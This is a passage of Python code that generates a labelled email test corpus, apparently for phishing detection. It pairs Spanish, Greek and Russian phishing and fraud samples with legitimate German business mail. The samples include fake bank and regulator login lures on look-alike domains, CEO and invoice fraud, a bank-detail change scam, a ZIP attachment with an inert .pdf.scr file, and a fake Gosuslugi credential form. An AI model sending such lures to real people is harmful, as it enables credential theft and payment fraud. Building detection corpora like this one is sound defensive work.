<p>Estimado/a responsable de distribución:</p>
<p>En aplicación del Real Decreto-ley 3/2020 y de la Resolución de la DGSFP de 2026 sobre el nuevo Registro Administrativo de Distribuidores de Seguros y Reaseguros, todos los corredores inscritos deben verificar antes del <b>30 de noviembre</b> los datos de su póliza de responsabilidad civil profesional y de la capacidad financiera.</p>
<p>Clave de inscripción: <b>J-3817</b> (sucursal en España de Example Group)</p>
<p><a href="https://sede.dgsfp-mediadores.es/registro/acceso?clave=J-3817">Acceder con certificado digital o Cl@ve</a></p>
<p>La falta de actualización podrá dar lugar a la baja cautelar en el Registro.</p>
<p>Atentamente,<br>Subdirección General de Organización, Estudios y Previsión Social Complementaria</p></body></html>""",
   desc="Fake Spanish insurance supervisor (DGSFP) registry update lure with threat of deregistration.",
   why="Regulator impersonation on look-alike domain (genuine dgsfp.mineco.gob.es); login lure.")

MX(A, "29-es-caixabank-pending-signature", "es",
   dict(helo="smtp.caixabank-empresas.net", rdns="mail.ozekim.com.tr", ip="94.73.148.22", tls="v12",
        return_path="avisos@caixabank-empresas.net"),
   frm=("CaixaBank", "avisos@caixabank-empresas.net"), to=[st("fernández")],
   date="2026-11-30 08:21:36 +0100", charset="iso-8859-15", cte="quoted-printable",
   subject="CaixaBankNow Empresas: operación pendiente de firma",
   text="""CaixaBankNow Empresas

Tiene una transferencia pendiente de su firma:

Ordenante: EXAMPLE GROUP SUCURSAL EN ESPAÑA
Beneficiario: SUMINISTROS INDUSTRIALES DEL TAJO SL
Importe: 18.640,00 €
Fecha de ejecución: 30/11/2026

Si no reconoce esta operación, acceda a CaixaBankNow para cancelarla antes de las 14:00 h:
https://empresas.caixabank-empresas.net/now/firma?op=77120481

Por su seguridad, nunca le pediremos sus claves por correo electrónico.
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:13px">
<div style="background:#007eae;color:#fff;padding:10px 16px;font-size:17px">CaixaBankNow Empresas</div>
<div style="padding:16px"><p>Tiene una transferencia pendiente de su firma:</p>
<table cellpadding="3"><tr><td>Ordenante:</td><td>EXAMPLE GROUP SUCURSAL EN ESPAÑA</td></tr><tr><td>Beneficiario:</td><td>SUMINISTROS INDUSTRIALES DEL TAJO SL</td></tr>
<tr><td>Importe:</td><td><b>18.640,00 €</b></td></tr><tr><td>Fecha de ejecución:</td><td>30/11/2026</td></tr></table>
<p>Si no reconoce esta operación, acceda a CaixaBankNow para cancelarla antes de las 14:00 h:</p>
<p><a href="https://empresas.caixabank-empresas.net/now/firma?op=77120481" style="background:#007eae;color:#fff;padding:8px 18px;text-decoration:none">Revisar operación</a></p>
<p style="font-size:11px;color:#666">Por su seguridad, nunca le pediremos sus claves por correo electrónico.</p></div></body></html>""",
   desc="Bank phishing: fake CaixaBankNow 'pending signature' alert pushing the victim to cancel a fake transfer on a look-alike site.",
   why="Bank brand on non-bank domain sent through an unrelated compromised Turkish host; fear-based credential theft.")

MX(A, "30-es-ceo-whatsapp-move", "es", GMAIL("a30"),
   frm=("Katharina Brandt", "katharina.brandt.ceo@gmail.com"), to=[st("martín")],
   date="2026-11-27 09:12:05 +0100", charset="utf-8", cte="quoted-printable",
   subject="Consulta rápida",
   text="""Hola Javier,

¿tienes un momento hoy? Necesito que me ayudes con un asunto confidencial relacionado con un cliente en España. Estoy en reuniones todo el día y no puedo hablar por teléfono.

Envíame por favor tu número de móvil para escribirte por WhatsApp, es más rápido.

Gracias,
Katharina Brandt
CEO – Example Group
""",
   desc="CEO fraud first stage: request to move to WhatsApp, from a Gmail account with the CEO's name.",
   why="Free-mail impersonation of the CEO; channel-switch to evade corporate controls.")

MX(A, "31-es-bodyshop-invoice-fraud-gmail", "es", GMAIL("a31"),
   frm=("Carrocerías Vallecas - Administración", "admin.carroceriasvallecas@gmail.com"), to=[st("fernández")], cc=[st("martín")],
   date="2026-11-16 16:20:41 +0100", charset="iso-8859-1", cte="base64",
   subject="Factura 2026-0871 – reparación vehículo 4821 LMK – pago pendiente",
   text="""Buenas tardes,

Les adjuntamos la factura n.º 2026-0871 correspondiente a la reparación del vehículo matrícula 4821 LMK (siniestro de su cliente Transportes Hermanos Ruiz), ya entregado al asegurado.

Importe total: 6.384,21 EUR (IVA incluido)
Forma de pago: transferencia bancaria
IBAN: %s
Titular: Carrocerías Vallecas S.L. (CIF %s)

Les rogamos que realicen el pago esta semana, ya que la aseguradora nos indicó que el abono lo gestionan ustedes como corredor.

Un saludo,
Administración
Carrocerías Vallecas S.L.
Calle de la Sierra de Cuerda Larga 12, 28031 Madrid
""" % (fmt_iban(IBAN_ES_FAKE), ES_CIF_FAKE),
   attachments=[P("Factura_2026-0871_CarroceriasVallecas.pdf", "Factura 2026-0871",
                  ["Carrocerias Vallecas S.L.", "Reparacion vehiculo 4821 LMK", "Total 6.384,21 EUR", "IBAN " + fmt_iban(IBAN_ES_FAKE)])],
   desc="Invoice fraud: unknown 'body shop' on Gmail invoices the broker for a repair it never commissioned, using a real client name.",
   why="No such repair order; free-mail vendor; payment pushed to broker instead of insurer; bank account controlled by fraudster.")

# -------------------------- Ελληνικά ------------------------------------------
MX(A, "32-el-fake-aade-refund", "el",
   dict(helo="myaade-gov.com", rdns="unknown", ip="179.43.176.90", tls=None, return_path="noreply@myaade-gov.com"),
   frm=("ΑΑΔΕ - myAADE", "noreply@myaade-gov.com"), to=[st("georgiou")],
   date="2026-11-09 10:31:18 +0200", charset="iso-8859-7", cte="quoted-printable",
   subject="Επιστροφή φόρου: εκκρεμεί επιβεβαίωση λογαριασμού IBAN",
   text="""Ανεξάρτητη Αρχή Δημοσίων Εσόδων – myAADE

Αγαπητέ φορολογούμενε,

μετά την εκκαθάριση της δήλωσης ΦΠΑ του γ' τριμήνου 2026 προκύπτει υπέρ σας πιστωτικό υπόλοιπο 2.418,60 €.

Για να πραγματοποιηθεί η επιστροφή, πρέπει να επιβεβαιώσετε τον λογαριασμό IBAN της επιχείρησης εντός 5 εργάσιμων ημερών μέσω της εφαρμογής myAADE:

https://www1.aade.gr.myaade-gov.com/taxisnet/epistrofi?afm=801447822

Σε διαφορετική περίπτωση το ποσό θα συμψηφιστεί με μελλοντικές οφειλές.

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px">
<div style="background:#003476;color:#fff;padding:12px"><b>ΑΑΔΕ</b> &nbsp;Ανεξάρτητη Αρχή Δημοσίων Εσόδων – myAADE</div>
<p>Αγαπητέ φορολογούμενε,</p>
<p>μετά την εκκαθάριση της δήλωσης ΦΠΑ του γ' τριμήνου 2026 προκύπτει υπέρ σας πιστωτικό υπόλοιπο <b>2.418,60 €</b>.</p>
<p>Για να πραγματοποιηθεί η επιστροφή, πρέπει να επιβεβαιώσετε τον λογαριασμό IBAN της επιχείρησης εντός 5 εργάσιμων ημερών μέσω της εφαρμογής myAADE.</p>
<p><a href="https://www1.aade.gr.myaade-gov.com/taxisnet/epistrofi?afm=801447822">Είσοδος με κωδικούς TAXISnet</a></p>
<p>Με εκτίμηση,<br>Ανεξάρτητη Αρχή Δημοσίων Εσόδων</p></body></html>""",
   desc="Fake Greek tax authority (AADE) VAT-refund lure for TAXISnet credentials; bulletproof host, no rDNS.",
   why="Authority impersonation with subdomain trick 'www1.aade.gr.myaade-gov.com'; credential theft.")

MX(A, "33-el-fake-piraeus-business-lock", "el",
   dict(helo="ealerts.piraeus-business.info", rdns="vm2214.hostiserver.net", ip="176.113.115.42", tls="v12",
        return_path="bounce@piraeus-business.info"),
   frm=("Τράπεζα Πειραιώς", "ealerts@piraeus-business.info"), to=[st("georgiou")],
   date="2026-11-21 08:47:29 +0200", charset="windows-1253", cte="base64",
   subject="winbank business: προσωρινός περιορισμός πρόσβασης",
   html="""<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<div style="background:#fdb913;padding:10px 16px;font-weight:bold">ΤΡΑΠΕΖΑ ΠΕΙΡΑΙΩΣ · winbank business</div>
<div style="padding:16px">
<p>Αγαπητέ πελάτη,</p>
<p>στο πλαίσιο της Οδηγίας PSD3 και των νέων απαιτήσεων ισχυρής ταυτοποίησης, η πρόσβαση του χρήστη σας στο <b>winbank business</b> έχει περιοριστεί προσωρινά. Οι εγκεκριμένες μεταφορές και πληρωμές μισθοδοσίας ενδέχεται να μην εκτελεστούν.</p>
<p>Για την άρση του περιορισμού παρακαλούμε ολοκληρώστε την επικαιροποίηση στοιχείων έως <b>24/11/2026</b>:</p>
<p><a href="https://winbank-business.piraeus-business.info/el/auth?id=gr8814" style="background:#003e7e;color:#fff;padding:8px 20px;text-decoration:none">Επικαιροποίηση στοιχείων</a></p>
<p>Με εκτίμηση,<br>Τράπεζα Πειραιώς</p>
<p style="font-size:11px;color:#777">Το μήνυμα αυτό στάλθηκε αυτόματα. Μην απαντάτε.</p></div></body></html>""",
   desc="Greek bank phishing (Piraeus winbank business) threatening payroll/payment disruption, HTML-only windows-1253.",
   why="Bank brand on look-alike domain from rented VM; credential lure with regulatory pretext.")

MX(A, "34-el-bodyshop-lookalike-iban-change", "el",
   DRIVEN("a34", "mail.karagiannis-autoservice.com", "srv1.greekhost-vps.eu", "194.150.167.88", "karagiannis-autoservice.com", MSO),
   frm=("Λογιστήριο Αφοί Καραγιάννη", "logistirio@karagiannis-autoservice.com"), to=[st("georgiou")], cc=[st("papadopoulos")],
   date="2026-11-24 12:55:03 +0200", charset="windows-1253", cte="quoted-printable",
   subject="ΑΠ: Τιμολόγιο 1187/2026 – αλλαγή τραπεζικού λογαριασμού",
   text="""Καλησπέρα κα Γεωργίου,

σας ευχαριστούμε για την επιβεβαίωση της εξόφλησης του τιμολογίου 1187/2026 (επισκευή φορτηγού ΙΚΥ 4471, ζημιά 2026/ΣΖ/0228).

Σας ενημερώνουμε ότι λόγω μεταφοράς της εταιρικής μας συνεργασίας στη Eurobank, ο λογαριασμός μας στην Τράπεζα Πειραιώς δεν δέχεται πλέον καταθέσεις. Παρακαλούμε η πληρωμή να γίνει στον νέο λογαριασμό:

Δικαιούχος: ΑΦΟΙ ΚΑΡΑΓΙΑΝΝΗ Ο.Ε.
IBAN: %s
Ποσό: 7.940,00 €

Παρακαλούμε στείλτε μας το αποδεικτικό μόλις ολοκληρωθεί η μεταφορά.

Με εκτίμηση,
Λογιστήριο
ΑΦΟΙ ΚΑΡΑΓΙΑΝΝΗ Ο.Ε. – Συνεργείο Φορτηγών
Θηβών 212, 18233 Αγ. Ιωάννης Ρέντης
ΑΦΜ %s
""" % (fmt_iban(IBAN_GR_FAKE), GR_AFM_KARAG),
   desc="Supplier (body shop) bank-detail change from look-alike karagiannis-autoservice.com (genuine .gr), in a reply thread.",
   why="Look-alike domain on foreign VPS; payment diversion to new IBAN during an open invoice.")

MX(A, "35-el-elta-courier-customs", "el",
   dict(helo="elta-courier-gr.com", rdns="ec2-3-70-118-201.eu-central-1.compute.amazonaws.com", ip="3.70.118.201",
        return_path="info@elta-courier-gr.com"),
   frm=("ΕΛΤΑ Courier", "info@elta-courier-gr.com"), to=[st("papadopoulos")],
   date="2026-12-03 19:04:36 +0200", charset="utf-8", cte="quoted-printable",
   subject="Η αποστολή σας ΕΛ 8824 1937 5GR βρίσκεται σε αναμονή",
   text="""ΕΛΤΑ Courier

Η αποστολή σας με αριθμό ΕΛ 8824 1937 5GR βρίσκεται σε αναμονή στο κέντρο διαλογής Κρυονερίου λόγω μη εξοφλημένων τελών εκτελωνισμού (1,99 €).

Πληρώστε τα τέλη και επιλέξτε ημερομηνία παράδοσης:
https://elta-courier-gr.com/track/EL882419375GR

Αν η πληρωμή δεν ολοκληρωθεί εντός 72 ωρών, η αποστολή θα επιστραφεί στον αποστολέα.
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px">
<div style="background:#00428b;color:#fff;padding:12px;font-size:18px">ΕΛΤΑ Courier</div>
<p>Η αποστολή σας με αριθμό <b>ΕΛ 8824 1937 5GR</b> βρίσκεται σε αναμονή στο κέντρο διαλογής Κρυονερίου λόγω μη εξοφλημένων τελών εκτελωνισμού (<b>1,99 €</b>).</p>
<p><a href="https://elta-courier-gr.com/track/EL882419375GR" style="background:#f7a600;color:#000;padding:8px 18px;text-decoration:none">Πληρωμή τελών</a></p>
<p style="font-size:12px;color:#666">Αν η πληρωμή δεν ολοκληρωθεί εντός 72 ωρών, η αποστολή θα επιστραφεί στον αποστολέα.</p></body></html>""",
   desc="Courier customs-fee phishing (ELTA Courier) from cloud VM, card-data theft.",
   why="Brand impersonation on look-alike domain; small fee bait.")

# -------------------------- Русский -------------------------------------------
_zip36 = zip_bytes([("Trebovanie_17-24_11873.pdf.scr", INERT, (2026, 11, 11, 9, 0, 0))])
MX(A, "36-ru-fake-fns-demand-zip", "ru",
   dict(helo="smtp57.i.mail.ru", rdns="smtp57.i.mail.ru", ip="95.163.41.57", bstyle="part",
        return_path="fns.trebovanie.17-24@mail.ru", mailer="X-Mailer: Mail.Ru Mailer 1.0"),
   frm=("ФНС России - Инспекция № 17", "fns.trebovanie.17-24@mail.ru"), to=[st("ivanova")],
   date="2026-11-11 09:03:41 +0300", charset="koi8-r", cte="quoted-printable",
   subject="Требование о представлении документов (информации) № 17-24/11873",
   text="""Уважаемый налогоплательщик!

В соответствии со статьей 93 Налогового кодекса Российской Федерации Инспекция ФНС России № 17 по г. Москве в рамках камеральной налоговой проверки декларации по НДС за 3 квартал 2026 года требует представить документы, указанные в приложении к настоящему требованию.

Документы необходимо представить в течение 10 рабочих дней со дня получения требования. Непредставление документов влечет ответственность по статье 126 НК РФ.

Текст требования и перечень документов во вложении.

Начальник отдела камеральных проверок
Инспекция ФНС России № 17 по г. Москве
""",
   attachments=[dict(filename="Trebovanie_17-24_11873.zip", ctype="application/zip", data=_zip36)],
   desc="Fake Russian tax service (FNS) document demand from a mail.ru account; ZIP with .pdf.scr (inert).",
   why="Government impersonation from free mailer; executable screensaver in archive (RAT loader pattern).")

_diadoc = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<table width="600" cellpadding="14" style="border:1px solid #ddd"><tr><td><b style="color:#0d6fd1;font-size:20px">Контур.Диадок</b></td></tr>
<tr><td>
<p>Вам поступил документ, требующий подписи</p>
<p><b>Отправитель:</b> ООО «ТрансЛогистик», ИНН %s<br>
<b>Документ:</b> Акт сверки взаимных расчетов за 9 месяцев 2026 г.<br>
<b>Получатель:</b> Филиал Example Group в г. Москве</p>
<p>Срок подписания: до 20.11.2026</p>
<p><a href="https://diadoc.kontur-edo.ru.com/Box/Inbox?doc=9f1c2e77" style="background:#0d6fd1;color:#fff;padding:10px 22px;text-decoration:none">Открыть документ</a></p>
<p style="font-size:11px;color:#888">Это письмо отправлено автоматически, отвечать на него не нужно.</p>
</td></tr></table></body></html>""" % INN_TRANSLOG
MX(A, "37-ru-fake-diadoc-document", "ru",
   dict(helo="mail.kontur-edo.ru.com", rdns="vds-2212.firstbyte.ru", ip="92.38.142.87", tls="v12",
        return_path="noreply@kontur-edo.ru.com"),
   frm=("Контур.Диадок", "noreply@kontur-edo.ru.com"), to=[st("ivanova")],
   date="2026-11-17 10:18:02 +0300", charset="windows-1251", cte="base64",
   subject="Вам поступил документ на подпись от ООО «ТрансЛогистик»",
   html=_diadoc,
   desc="Fake EDI/e-document notification (Kontur.Diadoc) using a real client's name; credential lure on look-alike domain.",
   why="Brand impersonation, domain kontur-edo.ru.com is not kontur.ru; link to attacker login page.")

MX(A, "38-ru-bec-manager-yandex", "ru",
   dict(helo="forward501b.mail.yandex.net", rdns="forward501b.mail.yandex.net", ip="178.154.239.145", bstyle="part",
        mailer="X-Mailer: Yamail [ http://yandex.ru ] 5.0",
        msgid="<%s@mail.yandex.ru>" % hnum("a38", 9),
        hops=["from mail-nwsmtp-smtp-production-main-71.sas.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-71.sas.yp-c.yandex.net [IPv6:2a02:6b8:c14:3594:0:640:6e32:0])\n by forward501b.mail.yandex.net (Yandex) with ESMTPS id 5F2A061E35; {DATE}"]),
   frm=("Дмитрий Соколов", "d.sokolov.eg@yandex.ru"), to=[st("ivanova")],
   date="2026-11-25 15:40:12 +0300", charset="utf-8", cte="base64",
   subject="Срочно: оплата сегодня",
   text="""Ольга, добрый день!

Пишу с личной почты, рабочий ноутбук на ремонте. Нужно сегодня до 17:00 оплатить аванс по ремонту переговорной, иначе подрядчик сдвигает работы на январь. С Катариной согласовано.

Получатель: ООО «СтройИнтерьер Групп»
ИНН %s
Р/с %s
Банк: ТОЧКА ПАО БАНКА «ФК ОТКРЫТИЕ», БИК %s
Сумма: 684 500,00 руб., в т.ч. НДС
Назначение: Аванс по договору № 14/11-26 за ремонтные работы

Счет пришлю позже, подрядчик обещал направить оригиналы. Отпишись, пожалуйста, как отправишь платежку.

Дмитрий
""" % (INN_FAKE, RU_ACC_FAKE, BIK_TOCHKA),
   desc="BEC in Russian: office manager impersonated from Yandex free mail, urgent advance payment to new contractor (valid INN/account key).",
   why="Internal colleague impersonated from private address; invoice 'later'; urgency and claimed CEO approval.")

MX(A, "39-ru-fake-sberbusiness-certificate", "ru",
   dict(helo="mailer.sberbusiness-online.ru", rdns="mailer.sberbusiness-online.ru", ip="185.117.153.19",
        return_path="info@sberbusiness-online.ru"),
   frm=("СберБизнес", "info@sberbusiness-online.ru"), to=[st("ivanova")],
   date="2026-12-01 09:11:44 +0300", charset="utf-8", cte="quoted-printable",
   subject="Срок действия сертификата электронной подписи истекает через 3 дня",
   text="""СберБизнес

Уважаемый клиент!

Срок действия сертификата электронной подписи пользователя «Иванова О. В.» истекает 04.12.2026. После этой даты подписание платежных поручений станет невозможным.

Перевыпустить сертификат онлайн:
https://sbi.sberbusiness-online.ru/cert/renew?user=ivanova_ov

Если вы уже перевыпустили сертификат, проигнорируйте это письмо.

С уважением,
Команда СберБизнес
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1f1f22">
<div style="background:#21a038;color:#fff;padding:12px 18px;font-size:18px">СберБизнес</div>
<div style="padding:18px"><p>Уважаемый клиент!</p>
<p>Срок действия сертификата электронной подписи пользователя <b>«Иванова О. В.»</b> истекает <b>04.12.2026</b>. После этой даты подписание платежных поручений станет невозможным.</p>
<p><a href="https://sbi.sberbusiness-online.ru/cert/renew?user=ivanova_ov" style="background:#21a038;color:#fff;padding:10px 20px;text-decoration:none;border-radius:4px">Перевыпустить сертификат</a></p>
<p style="font-size:12px;color:#777">Если вы уже перевыпустили сертификат, проигнорируйте это письмо.</p></div></body></html>""",
   desc="Bank phishing: fake SberBusiness certificate-expiry notice on look-alike domain.",
   why="Bank brand impersonation; credential/e-signature theft for online banking.")

_rkn = """<!DOCTYPE html><html lang="ru"><head><meta charset="windows-1251"><title>Госуслуги – вход</title></head>
<body style="font-family:Arial,sans-serif;background:#f5f7fa"><div style="width:380px;margin:70px auto;background:#fff;padding:30px">
<h2 style="color:#0d4cd3">госуслуги</h2><p>Для просмотра уведомления Роскомнадзора войдите через ЕСИА.</p>
<form method="post" action="https://esia-gosuslugi.rkn-uvedomlenie.org/login.php">
<p>Телефон / Email / СНИЛС<br><input name="login" style="width:100%"></p>
<p>Пароль<br><input type="password" name="pass" style="width:100%"></p>
<p><button style="background:#0d4cd3;color:#fff;border:0;padding:10px 30px">Войти</button></p></form>
<!-- evaluation corpus: inert credential-harvesting page pattern, endpoint is fictitious --></div></body></html>"""
MX(A, "40-ru-fake-roskomnadzor-html-attachment", "ru",
   dict(helo="mx.fabrika-mebel-tver.ru", rdns="mail.fabrika-mebel-tver.ru", ip="176.99.11.47", tls="v12",
        return_path="info@fabrika-mebel-tver.ru", mailer="X-Mailer: The Bat! (v10.4.2) Professional"),
   frm=("Роскомнадзор", "info@fabrika-mebel-tver.ru"), to=[st("sokolov")],
   date="2026-11-30 11:26:19 +0300", charset="windows-1251", cte="quoted-printable",
   subject="Уведомление о проведении проверки оператора персональных данных",
   text="""Уважаемый руководитель!

Управление Роскомнадзора по ЦФО уведомляет о включении Вашей организации в план внеплановых контрольных мероприятий в связи с поступившей жалобой субъекта персональных данных (обработка сведений о состоянии здоровья при урегулировании страховых убытков).

Уведомление и перечень запрашиваемых документов (локальные акты, согласия, сведения о трансграничной передаче) во вложении. Просьба ознакомиться в течение 3 рабочих дней.

Управление Роскомнадзора по Центральному федеральному округу
""",
   attachments=[dict(filename="Uvedomlenie_RKN_2026-11-30.html", ctype="text/html; charset=windows-1251", data=_rkn.encode("cp1251"))],
   desc="Fake regulator (Roskomnadzor) inspection notice from a compromised furniture company mailbox; HTML attachment imitating Gosuslugi login.",
   why="Sender domain unrelated to the authority (compromised); HTML credential-harvesting attachment.")


# ===========================================================================
# BUSINESS (legitimate) MESSAGES
# ===========================================================================
B = "business"


def INTERNAL(seed, client="EXHH01"):
    return dict(internal=True, bstyle="outlook",
                msgid="<%s@%s.corp.example.com>" % (h(seed, 32).upper(), client),
                hops=["from %s.corp.example.com (10.20.1.11) by mail-int01.example.com (10.20.0.25) with Microsoft SMTP Server\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.14; {DATE}" % client],
                headers=["Thread-Topic: {SUBJ}", "Thread-Index: AdtR%s" % base64.b64encode(hashlib.md5(seed.encode()).digest()).decode()[:22],
                         "X-MS-Has-Attach: {ATT}", "X-MS-Exchange-Organization-SCL: -1", "Content-Language: {LANG}"])


LIEF = dict(helo="mail.lieferant-gmbh.de", rdns="mail.lieferant-gmbh.de", ip="217.91.48.130", mailer=MSO)

MX(B, "01-de-lieferant-invoice", "de", dict(LIEF, msgid="<000001dc4a31$%s$%s@lieferant-gmbh.de>" % (h("b01", 8), h("b01b", 8))),
   frm=("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de"), to=[("Example Group Kreditoren", "rechnungen@example.com")],
   rcpt="rechnungen@example.com",
   date="2026-11-03 07:42:10 +0100", charset="iso-8859-1", cte="quoted-printable", bstyle="legacy",
   subject="Rechnung RE-2026-11482 / Kunden-Nr. 40817",
   text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-11482 vom 02.11.2026 über die Lieferung von 40 Telematik-Boxen FX-300 inkl. Einbau für den Flottenkunden Spedition Hansen (Ihre Bestellung B-2026-0691).

Rechnungsbetrag: 17.850,00 EUR brutto
Zahlungsziel: 30 Tage netto, 2 %% Skonto bei Zahlung innerhalb von 10 Tagen

Bitte überweisen Sie den Betrag unter Angabe der Rechnungsnummer auf unser bekanntes Konto bei der Hamburger Sparkasse:
IBAN %s | BIC HASPDEHHXXX

Mit freundlichen Grüßen

Buchhaltung
Lieferant GmbH
Hanseatenweg 14 | 22525 Hamburg
Tel. +49 40 5481 220 | rechnungen@lieferant-gmbh.de
Geschäftsführer: Stefan Maier, Dr. Ute Harms | HRB 148223 Amtsgericht Hamburg | USt-IdNr. %s
""" % (fmt_iban(IBAN_LIEFERANT_OLD), DE_UST_LIEFERANT),
   attachments=[P("RE-2026-11482.pdf", "Lieferant GmbH - Rechnung RE-2026-11482",
                  ["Kunde: Example Group, Kd.-Nr. 40817", "40 x Telematik-Box FX-300 inkl. Einbau", "Netto 15.000,00 EUR  USt 19% 2.850,00 EUR",
                   "Brutto 17.850,00 EUR", "IBAN " + fmt_iban(IBAN_LIEFERANT_OLD)])],
   desc="Routine supplier invoice from the genuine Lieferant GmbH accounts mailbox, known IBAN, PDF attached.",
   why="Genuine domain and mail server of a known supplier, expected invoice for an existing order, unchanged bank details.")

MX(B, "02-de-lieferant-genuine-bank-change", "de", dict(LIEF, msgid="<000a01dc4f02$%s$%s@lieferant-gmbh.de>" % (h("b02", 8), h("b02b", 8))),
   frm=("Stefan Maier", "s.maier@lieferant-gmbh.de"), to=[st("krüger")], cc=[("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de")],
   date="2026-11-30 14:05:51 +0100", charset="iso-8859-15", cte="quoted-printable",
   subject="Änderung unserer Bankverbindung zum 01.01.2027 – bitte telefonisch verifizieren",
   text="""Sehr geehrte Frau Krüger,

wie bereits in unserem Kundenschreiben vom Oktober angekündigt, bündeln wir unseren Zahlungsverkehr zum Jahreswechsel bei der Commerzbank. Unsere Bankverbindung ändert sich daher zum 01.01.2027:

  neu ab 01.01.2027: Commerzbank AG
  IBAN %s
  BIC COBADEFFXXX

Bis zum 31.12.2026 bleibt unser Konto bei der Hamburger Sparkasse unverändert gültig, Zahlungen für Dezember-Rechnungen also bitte noch dorthin.

Uns ist bewusst, dass solche Mitteilungen häufig missbraucht werden. Bitte verifizieren Sie die Änderung daher vor der Umstellung telefonisch bei mir oder bei Frau Harms über unsere Zentrale (+49 40 5481 220) – also nicht über eine Nummer aus dieser E-Mail-Signatur, sondern über die Nummer, die Ihnen aus unseren Verträgen bekannt ist. Das unterschriebene Schreiben liegt zusätzlich per Post bei Ihnen.

Vielen Dank und freundliche Grüße

Stefan Maier
Vertrieb Innendienst
Lieferant GmbH
Hanseatenweg 14 | 22525 Hamburg
""" % fmt_iban(IBAN_LIEFERANT_NEW_GENUINE),
   attachments=[P("Mitteilung_Bankverbindung_2027_Lieferant_GmbH.pdf", "Lieferant GmbH - Aenderung der Bankverbindung zum 01.01.2027",
                  ["Neue Bankverbindung ab 01.01.2027: Commerzbank AG", "IBAN " + fmt_iban(IBAN_LIEFERANT_NEW_GENUINE),
                   "Bis 31.12.2026 gilt weiterhin die bisherige Verbindung.", "Stefan Maier / Dr. Ute Harms, Geschaeftsfuehrung"])],
   desc="Genuine bank-detail change from the real supplier domain with future effective date, postal letter and explicit call-back verification.",
   why="Sent from lieferant-gmbh.de's own server; announced in advance; no urgency; invites out-of-band verification.")

MX(B, "03-de-internal-hr-payroll-december", "de", INTERNAL("b03"),
   frm=("Anja Richter", "anja.richter@example.com"), to=[("Alle Mitarbeitenden DE", "alle-de@example.com")], rcpt="markus.schulte@example.com",
   date="2026-11-16 10:30:00 +0100", charset="utf-8", cte="quoted-printable",
   subject="Gehaltsabrechnung Dezember und Weihnachtsfeier am 11.12.",
   text="""Liebe Kolleginnen und Kollegen,

zwei kurze Hinweise aus der Personalabteilung:

1. Gehaltsabrechnung Dezember
Die Dezembergehälter inkl. Weihnachtsgeld werden am 18.12.2026 ausgezahlt. Änderungen an Bankverbindung, Steuerklasse oder Adresse nehmen wir nur noch bis zum 04.12. entgegen – und wie immer ausschließlich über das Personalportal (Mein Bereich > Stammdaten) bzw. persönlich bei mir, nicht per E-Mail.

2. Weihnachtsfeier
Unsere Weihnachtsfeier findet am Freitag, 11.12.2026, ab 18:00 Uhr im „Strandhaus Övelgönne“ statt. Bitte tragt euch bis zum 27.11. in die Liste im Intranet ein (auch bei Absage), damit Petra planen kann.

Viele Grüße
Anja

Anja Richter
Personal | Example Group
Tel. +49 40 3039 880-150
""",
   desc="Internal HR announcement via the internal relay (salary date, Christmas party).",
   why="Originates inside the organisation (mail-int01), no external links, reinforces the correct bank-change process.")

MX(B, "04-de-insurer-commission-statement", "de",
   dict(helo="mx-out2.nordstern-versicherung.de", rdns="mx-out2.nordstern-versicherung.de", ip="194.156.12.42", bstyle="part",
        return_path="bounce-maklerportal@nordstern-versicherung.de"),
   frm=("Nordstern Versicherung AG - Maklerportal", "maklerportal@nordstern-versicherung.de"), to=[st("becker")],
   date="2026-11-02 06:15:04 +0100", charset="utf-8", cte="quoted-printable",
   subject="Neue Dokumente im Maklerportal: Courtageabrechnung Oktober 2026",
   text="""Sehr geehrte Damen und Herren,

in Ihrem Postfach im Nordstern Maklerportal steht ein neues Dokument für Sie bereit:

Dokumentart: Courtageabrechnung
Zeitraum: Oktober 2026
Vermittlernummer: 0047-118822

Sie finden das Dokument nach der Anmeldung unter „Postkorb > Abrechnungen“:
https://maklerportal.nordstern-versicherung.de

Aus Sicherheitsgründen versenden wir Abrechnungen nicht als E-Mail-Anhang und fordern Sie niemals per E-Mail zur Eingabe Ihres Passworts auf.

Mit freundlichen Grüßen
Ihr Maklerservice der Nordstern Versicherung AG

Nordstern Versicherung AG | Ballindamm 27 | 20095 Hamburg
Vorstand: Dr. Hendrik Saalfeld (Vors.), Birgit Ahrens | Aufsichtsratsvorsitzender: Prof. Dr. Ulrich Menke
Sitz Hamburg | Amtsgericht Hamburg HRB 41877
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1d2b3a">
<table width="600" align="center" cellpadding="18"><tr><td style="border-bottom:3px solid #0b3d6e"><b style="color:#0b3d6e;font-size:18px">Nordstern Versicherung</b></td></tr>
<tr><td><p>Sehr geehrte Damen und Herren,</p><p>in Ihrem Postfach im Nordstern Maklerportal steht ein neues Dokument für Sie bereit:</p>
<table cellpadding="3"><tr><td>Dokumentart:</td><td>Courtageabrechnung</td></tr><tr><td>Zeitraum:</td><td>Oktober 2026</td></tr><tr><td>Vermittlernummer:</td><td>0047-118822</td></tr></table>
<p>Sie finden das Dokument nach der Anmeldung unter „Postkorb &gt; Abrechnungen“ im <a href="https://maklerportal.nordstern-versicherung.de">Nordstern Maklerportal</a>.</p>
<p style="font-size:12px;color:#555">Aus Sicherheitsgründen versenden wir Abrechnungen nicht als E-Mail-Anhang und fordern Sie niemals per E-Mail zur Eingabe Ihres Passworts auf.</p>
<p>Mit freundlichen Grüßen<br>Ihr Maklerservice der Nordstern Versicherung AG</p>
<p style="font-size:11px;color:#888">Nordstern Versicherung AG | Ballindamm 27 | 20095 Hamburg | Amtsgericht Hamburg HRB 41877</p></td></tr></table></body></html>""",
   desc="Genuine insurer portal notification (commission statement available), link only to the insurer's own domain.",
